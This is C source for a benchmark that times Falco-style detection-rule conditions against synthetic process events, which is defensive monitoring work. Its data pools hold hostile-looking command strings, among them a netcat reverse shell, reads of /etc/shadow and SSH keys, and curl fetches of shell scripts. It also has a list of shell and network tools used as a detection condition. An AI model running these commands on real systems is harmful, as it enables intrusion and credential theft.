/* Evaluations per second of residual conditions in the style of Falco's default rules, on one
 * core, against a synthetic source that cycles through 64 made-up events. Each condition is
 * timed in interleaved rounds and reported as the median, and as a ratio to the cheapest
 * evaluation ("true") of the same run. Usage: saker_bench_eval [-r ROUNDS] [-n EVALS] [--json]
 *
 * With --bundle FILE, the conditions are instead the residuals of FILE's rules (what sakerd
 * runs after the kernel part), on synthetic events that give every field a value of its type,
 * drawn from pools of process names, command lines, paths, users and images; and the last line
 * times all of them in turn, as sakerd would for an event that every rule's kernel part let
 * through. */
#define _GNU_SOURCE
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "cond_text.h"
#include "saker/bundle.h"
#include "saker/cond.h"
#include "saker/fields.h"

#define N_EVENTS 64

static const char *const shells[] = {
	"ash", "bash", "csh", "ksh", "sh", "tcsh", "zsh", "dash", "fish", "busybox", "python",
	"python2", "python3", "perl", "ruby", "node", "php", "lua", "awk", "gawk", "mawk", "nawk",
	"curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync",
	"tar", "gzip", "gunzip", "bzip2", "xz", "zip", "unzip", "openssl", "base64", "xxd", "dd",
	"cat", "head", "tail", "less", "more", "vi", "vim", "nano", "emacs", "sed", "grep", "find",
	"xargs", "env", "sudo", "su",
};

static const char *const other[] = { "nginx", "postgres", "java", "containerd", "kubelet", "sshd",
				     "systemd", "cron", "dockerd", "redis-server" };

struct event {
	const char *name, *pname, *cmdline, *user, *file;
};

static struct event events[N_EVENTS];
static const struct event *cur;

static void get(void *ctx, int field, const char *arg, sk_cval *v)
{
	static int f_name = -1, f_pname, f_cmdline, f_user, f_file;
	const char *s = NULL;

	(void)ctx;
	(void)arg;
	if (f_name < 0) {
		f_name = sk_field_lookup("proc.name");
		f_pname = sk_field_lookup("proc.pname");
		f_cmdline = sk_field_lookup("proc.cmdline");
		f_user = sk_field_lookup("user.name");
		f_file = sk_field_lookup("fd.name");
	}
	if (field == f_name)
		s = cur->name;
	else if (field == f_pname)
		s = cur->pname;
	else if (field == f_cmdline)
		s = cur->cmdline;
	else if (field == f_user)
		s = cur->user;
	else if (field == f_file)
		s = cur->file;
	if (!s) {
		v->kind = SK_CV_NA;
		return;
	}
	v->kind = SK_CV_STR;
	v->s = s;
	v->len = strlen(s);
}

/* --bundle: a value of FIELD's type for the current event, from pools chosen by the field's name. */
static unsigned cur_index;
static const char *const pool_cmd[] = { "bash -c id", "curl -fsSL https://example.com/x.sh",
	"python3 -m http.server", "sshd -D", "nginx -g daemon off;", "find / -name id_rsa",
	"cat /etc/shadow", "sh -c grep -r password /home", "tar czf /tmp/x.tgz /etc", "nc -e /bin/sh 10.0.0.1 4444" };
static const char *const pool_path[] = { "/etc/shadow", "/etc/passwd", "/tmp/x", "/var/log/syslog",
	"/usr/lib/x86_64-linux-gnu/libc.so.6", "/home/u/.ssh/id_rsa", "/dev/shm/a", "/proc/self/status",
	"/etc/sudoers.d/90", "/root/.aws/credentials" };
static const char *const pool_user[] = { "root", "app", "nobody", "postgres", "www-data" };
static const char *const pool_image[] = { "docker.io/library/nginx", "quay.io/app/web",
	"registry.k8s.io/pause", "docker.io/library/redis", "ghcr.io/acme/worker" };

static const char *pick(const char *const *pool, size_t n, int field)
{
	return pool[(cur_index * 7u + (unsigned)field * 13u) % n];
}
#define PICK(pool, f) pick(pool, sizeof(pool) / sizeof(pool[0]), f)

static const char *string_for(int field)
{
	const char *n = sk_fields[field].name;
	if (strstr(n, "cmdline") || strstr(n, "args"))
		return PICK(pool_cmd, field);
	if (strstr(n, "image") || strstr(n, "repository"))
		return PICK(pool_image, field);
	if (strstr(n, "user") || strstr(n, "group") || strstr(n, "loginname"))
		return PICK(pool_user, field);
	if (!strncmp(n, "fd.", 3) || strstr(n, "exepath") || strstr(n, "cwd") || strstr(n, "path") ||
	    strstr(n, "directory") || strstr(n, "filename"))
		return PICK(pool_path, field);
	return field % 2 ? PICK(shells, field) : PICK(other, field);
}

static sk_cval list_items[3];

static void get_any(void *ctx, int field, const char *arg, sk_cval *v)
{
	(void)ctx;
	(void)arg;
	memset(v, 0, sizeof(*v));
	if (field < 0 || field >= SK_FLD__COUNT) {
		v->kind = SK_CV_NA;
		return;
	}
	unsigned x = cur_index * 2654435761u + (unsigned)field * 40503u;
	if (sk_fields[field].flags & SK_F_LIST) {
		for (int i = 0; i < 3; i++) {
			list_items[i].kind = SK_CV_STR;
			list_items[i].s = string_for(field + i);
			list_items[i].len = strlen(list_items[i].s);
		}
		v->kind = SK_CV_LIST;
		v->items = list_items;
		v->n_items = 1 + x % 3;
		return;
	}
	switch (sk_fields[field].type) {
	case SK_T_STR:
	case SK_T_BYTES:
		v->kind = SK_CV_STR;
		v->s = string_for(field);
		v->len = strlen(v->s);
		break;
	case SK_T_I64:
		v->kind = SK_CV_INT;
		v->i = (long long)(x % 2000) - 100;
		break;
	case SK_T_U64:
	case SK_T_PORT:
	case SK_T_RELTIME:
	case SK_T_ABSTIME:
		v->kind = SK_CV_UINT;
		v->u = x % 70000;
		break;
	case SK_T_BOOL:
		v->kind = SK_CV_BOOL;
		v->b = (x >> 3) & 1;
		break;
	case SK_T_IPADDR:
		v->kind = SK_CV_IP;
		v->ip[0] = (x & 1) ? 127 : 10;
		v->ip[3] = (unsigned char)(x >> 8);
		v->ip_len = 4;
		break;
	case SK_T_DOUBLE:
		v->kind = SK_CV_DOUBLE;
		v->d = (double)(x % 1000) / 7.0;
		break;
	default:
		v->kind = SK_CV_NA;
	}
}

static double now(void);
static int cmp_double(const void *a, const void *b);

/* --bundle FILE: each rule's residual, then all of them in turn. */
static int bench_bundle(const char *path, int rounds, long evals, int json)
{
	struct saker_bundle *b = NULL;
	char err[512];
	if (saker_bundle_read_file(path, &b, err, sizeof(err))) {
		fprintf(stderr, "saker_bench_eval: %s\n", err);
		return 2;
	}
	const struct sk_cond_src src = { get_any, NULL, NULL };
	struct sk_cond_ctx *ctx;
	if (sk_cond_ctx_new(&ctx)) {
		saker_bundle_free(b);
		return 2;
	}
	uint32_t n = 0;
	for (uint32_t i = 0; i < b->n_rules; i++)
		n += b->rules[i].residual != NULL;
	if (!n) {
		fprintf(stderr, "saker_bench_eval: %s: no rule has a residual\n", path);
		sk_cond_ctx_free(ctx);
		saker_bundle_free(b);
		return 2;
	}
	double (*best)[64] = calloc((size_t)n + 1, sizeof(*best));
	unsigned long matched = 0;
	for (int r = 0; r < rounds; r++) {
		uint32_t k = 0;
		for (uint32_t i = 0; i < b->n_rules; i++) {
			const sk_cexpr *e = b->rules[i].residual;
			if (!e)
				continue;
			double t0 = now();
			for (long j = 0; j < evals; j++) {
				cur_index = (unsigned)(j % N_EVENTS);
				int res = sk_cond_eval(ctx, e, &src);
				if (res < 0) {
					fprintf(stderr, "saker_bench_eval: rule '%s': evaluation failed: %d\n",
						b->rules[i].name, res);
					return 1;
				}
				matched += (unsigned long)res;
			}
			best[k++][r] = (double)evals / (now() - t0);
		}
		/* every residual on each event: sakerd's cost for an event all kernel parts passed */
		double t0 = now();
		for (long j = 0; j < evals / n + 1; j++) {
			cur_index = (unsigned)(j % N_EVENTS);
			for (uint32_t i = 0; i < b->n_rules; i++)
				if (b->rules[i].residual)
					matched += (unsigned long)(sk_cond_eval(ctx, b->rules[i].residual, &src) > 0);
		}
		best[n][r] = (double)(evals / n + 1) * n / (now() - t0);
	}
	if (json)
		printf("{\"bundle\": \"%s\", \"evals_per_round\": %ld, \"rounds\": %d, \"residuals\": [", path, evals, rounds);
	else
		printf("%-52s %14s %10s\n", "rule (residual)", "evals/s", "ns/eval");
	uint32_t k = 0;
	for (uint32_t i = 0; i <= b->n_rules; i++) {
		if (i < b->n_rules && !b->rules[i].residual)
			continue;
		qsort(best[k], (size_t)rounds, sizeof(double), cmp_double);
		double med = best[k][rounds / 2];
		const char *name = i < b->n_rules ? b->rules[i].name : "(all residuals, in turn)";
		if (json)
			printf("%s{\"rule\": \"%s\", \"evals_per_s\": %.0f, \"ns_per_eval\": %.1f}", k ? ", " : "", name, med, 1e9 / med);
		else
			printf("%-52.52s %14.0f %10.1f\n", name, med, 1e9 / med);
		k++;
	}
	if (json)
		printf("]}\n");
	fprintf(stderr, "(%u residuals, %lu matches, %d rounds of %ld evaluations each, median shown)\n", n,
		matched, rounds, evals);
	free(best);
	sk_cond_ctx_free(ctx);
	saker_bundle_free(b);
	return 0;
}

static void make_events(void)
{
	static char cmd[N_EVENTS][96], file[N_EVENTS][64];
	static const char *const dirs[] = { "/etc/", "/tmp/", "/usr/lib/", "/var/log/", "/home/u/" };
	unsigned x = 12345;
	for (int i = 0; i < N_EVENTS; i++) {
		x = x * 1103515245 + 12345;
		struct event *e = &events[i];
		/* about half the processes are in the big list */
		e->name = (x >> 8) % 2 ? shells[(x >> 10) % 60] : other[(x >> 10) % 10];
		e->pname = other[(x >> 14) % 10];
		e->user = (x >> 18) % 4 ? "app" : "root";
		snprintf(cmd[i], sizeof(cmd[i]), "%s %s https://example.com/%u.sh -o /tmp/x%u", e->name,
			 (x >> 20) % 3 ? "-fsSL" : "-c", x % 1000, i);
		e->cmdline = cmd[i];
		snprintf(file[i], sizeof(file[i]), "%s%s%u.conf", dirs[(x >> 22) % 5],
			 (x >> 25) % 2 ? "app/" : "", i);
		e->file = file[i];
	}
}

static char *join_names(const char *const *names, size_t n)
{
	size_t cap = 16 * n + 2, k = 0;
	char *s = malloc(cap);
	if (!s)
		abort();
	for (size_t i = 0; i < n; i++)
		k += (size_t)snprintf(s + k, cap - k, "%s%s", i ? ", " : "", names[i]);
	return s;
}

struct cond {
	const char *name;
	char text[4096];
	sk_cexpr *e;
	double best[64];
};

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

static int cmp_double(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;
	return (x > y) - (x < y);
}

int main(int argc, char **argv)
{
	int rounds = 5, json = 0;
	const char *bundle = NULL;
	long evals = 2000000;
	const struct sk_cond_src src = { get, NULL, NULL };
	struct sk_cond_ctx *ctx;
	cpu_set_t one;

	for (int i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "-r") && i + 1 < argc)
			rounds = atoi(argv[++i]);
		else if (!strcmp(argv[i], "-n") && i + 1 < argc)
			evals = atol(argv[++i]);
		else if (!strcmp(argv[i], "--json"))
			json = 1;
		else if (!strcmp(argv[i], "--bundle") && i + 1 < argc)
			bundle = argv[++i];
		else {
			fprintf(stderr, "usage: %s [-r ROUNDS] [-n EVALS] [--json] [--bundle FILE]\n", argv[0]);
			return 2;
		}
	}
	if (rounds < 1 || rounds > 64 || evals < 1000) {
		fprintf(stderr, "%s: -r takes 1 to 64, -n at least 1000\n", argv[0]);
		return 2;
	}
	/* one core: the one it starts on */
	CPU_ZERO(&one);
	CPU_SET(sched_getcpu() >= 0 ? sched_getcpu() : 0, &one);
	sched_setaffinity(0, sizeof(one), &one);
	make_events();
	if (bundle)
		return bench_bundle(bundle, rounds, evals, json);
	char *big = join_names(shells, 60), *others = join_names(other, 10);
	struct cond conds[] = {
		{ "true (baseline)", "true", NULL, { 0 } },
		{ "user.name = root", "user.name = root", NULL, { 0 } },
		{ "proc.name in (60 names)", "", NULL, { 0 } },
		{ "proc.cmdline contains", "proc.cmdline contains \"base64 -d\"", NULL, { 0 } },
		{ "fd.name glob", "fd.name glob \"/etc/*.conf\"", NULL, { 0 } },
		{ "proc.cmdline regex", "proc.cmdline regex \"(curl|wget) .*https?://.*\\.sh.*\"", NULL, { 0 } },
		{ "nested and/or/not", "", NULL, { 0 } },
		{ "rule-like, 6 checks", "", NULL, { 0 } },
	};
	size_t nc = sizeof(conds) / sizeof(conds[0]);
	snprintf(conds[2].text, sizeof(conds[2].text), "proc.name in (%s)", big);
	snprintf(conds[6].text, sizeof(conds[6].text),
		 "(proc.name in (%s) and not proc.pname in (%s)) or (user.name = root and "
		 "proc.cmdline contains \" -c \" and not fd.name startswith /tmp/)",
		 big, others);
	snprintf(conds[7].text, sizeof(conds[7].text),
		 "proc.name in (%s) and not proc.pname in (sshd, cron) and not user.name = postgres "
		 "and not proc.cmdline icontains \"--version\" and fd.name pmatch (/etc, /usr/lib) and "
		 "not fd.name endswith .log",
		 big);
	free(big);
	free(others);
	for (size_t i = 0; i < nc; i++)
		if (!(conds[i].e = ct_parse(conds[i].text)) || sk_cond_check(conds[i].e, NULL, 0)) {
			fprintf(stderr, "%s: cannot read '%s': %s\n", argv[0], conds[i].name, ct_mem.err);
			return 2;
		}
	if (sk_cond_ctx_new(&ctx))
		return 2;
	unsigned long matched = 0;
	for (int r = 0; r < rounds; r++) {
		for (size_t i = 0; i < nc; i++) {
			/* warm up: plans built, caches filled */
			for (int k = 0; k < 10000; k++) {
				cur = &events[k % N_EVENTS];
				sk_cond_eval(ctx, conds[i].e, &src);
			}
			double t0 = now();
			for (long k = 0; k < evals; k++) {
				cur = &events[k % N_EVENTS];
				int res = sk_cond_eval(ctx, conds[i].e, &src);
				if (res < 0) {
					fprintf(stderr, "%s: '%s' failed: %d\n", argv[0], conds[i].name, res);
					return 1;
				}
				matched += (unsigned long)res;
			}
			conds[i].best[r] = (double)evals / (now() - t0);
		}
	}
	double base = 0;
	if (json)
		printf("{\"evals_per_round\": %ld, \"rounds\": %d, \"conditions\": [", evals, rounds);
	else
		printf("%-26s %14s %10s %10s\n", "condition", "evals/s", "ns/eval", "x true");
	for (size_t i = 0; i < nc; i++) {
		qsort(conds[i].best, (size_t)rounds, sizeof(double), cmp_double);
		double med = conds[i].best[rounds / 2];
		if (i == 0)
			base = med;
		if (json)
			printf("%s{\"name\": \"%s\", \"evals_per_s\": %.0f, \"ns_per_eval\": %.1f, "
			       "\"ratio_to_true\": %.2f}",
			       i ? ", " : "", conds[i].name, med, 1e9 / med, base / med);
		else
			printf("%-26s %14.0f %10.1f %10.2f\n", conds[i].name, med, 1e9 / med, base / med);
	}
	if (json)
		printf("]}\n");
	fprintf(stderr, "(%lu matches, %d rounds of %ld evaluations, median shown)\n", matched, rounds,
		evals);
	sk_cond_ctx_free(ctx);
	ct_free_all();
	return 0;
}
